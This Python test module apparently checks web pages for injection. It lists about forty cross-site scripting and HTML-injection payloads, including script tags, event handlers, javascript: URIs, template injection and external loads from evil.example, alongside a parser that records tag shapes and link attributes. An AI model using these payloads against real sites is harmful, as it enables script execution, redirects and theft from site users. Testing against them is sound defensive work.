"""What a page is made of, apart from its texts; and what others may write into a field to change that."""

from __future__ import annotations

from html.parser import HTMLParser

PAYLOADS = (
    "<script>window.__pwn=1</script>", "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "</script><script>window.__pwn=1</script>",
    "<img src=x onerror=window.__pwn=1>", "<img src=x onerror='window.__pwn=1'>", '"><img src=x onerror=window.__pwn=1>',
    "'><img src=x onerror=window.__pwn=1>", '" onmouseover="window.__pwn=1', "' onmouseover='window.__pwn=1",
    '" autofocus onfocus=window.__pwn=1 x="', "<svg onload=window.__pwn=1>", "<svg/onload=window.__pwn=1//",
    "<svg><script>window.__pwn=1</script></svg>", "<math><mi xlink:href=javascript:window.__pwn=1>",
    "<iframe src=javascript:window.__pwn=1>", "<iframe srcdoc='<script>window.__pwn=1</script>'>",
    "<object data=javascript:window.__pwn=1>", "<embed src=javascript:window.__pwn=1>",
    "<a href=javascript:window.__pwn=1>x</a>", "javascript:window.__pwn=1", "JaVaScRiPt:window.__pwn=1",
    "data:text/html,<script>window.__pwn=1</script>", "<body onload=window.__pwn=1>",
    "<details open ontoggle=window.__pwn=1>",
    "<video><source onerror=window.__pwn=1>", "<form action=//evil.example><button>x</button></form>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example>", "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>", "</title><script>window.__pwn=1</script>",
    "</textarea><script>window.__pwn=1</script>", "<!--<script>window.__pwn=1</script>-->",
    "--><script>window.__pwn=1</script>",
    "{{7*7}}{% raw %}<b>", "${window.__pwn=1}", "\\u003cscript\\u003ewindow.__pwn=1\\u003c/script\\u003e",
    "&lt;script&gt;window.__pwn=1&lt;/script&gt;", "<div hx-get=//evil.example hx-trigger=load>x</div>",
    "<template shadowrootmode=open><script>window.__pwn=1</script></template>", "\u2028<script>window.__pwn=1</script>",
    "data-x='\n\nevent: end\ndata: x\n\n", "<noscript><p title='</noscript><img src=x onerror=window.__pwn=1>'>",
)  # fmt: skip


class _Shape(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, tuple[str, ...]]] = []
        self.links: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, tuple(name for name, _ in attrs)))
        self.links += [value or "" for name, value in attrs if name in {"href", "src", "action", "hx-get"}]

    def handle_comment(self, data: str) -> None:
        self.tags.append(("!comment", ()))


def shape(html: str) -> list[tuple[str, tuple[str, ...]]]:
    """Its elements with the names of their attributes, in order."""
    return _parsed(html).tags


def links(html: str) -> list[str]:
    return _parsed(html).links


def _parsed(html: str) -> _Shape:
    parser = _Shape()
    parser.feed(html)
    parser.close()
    return parser
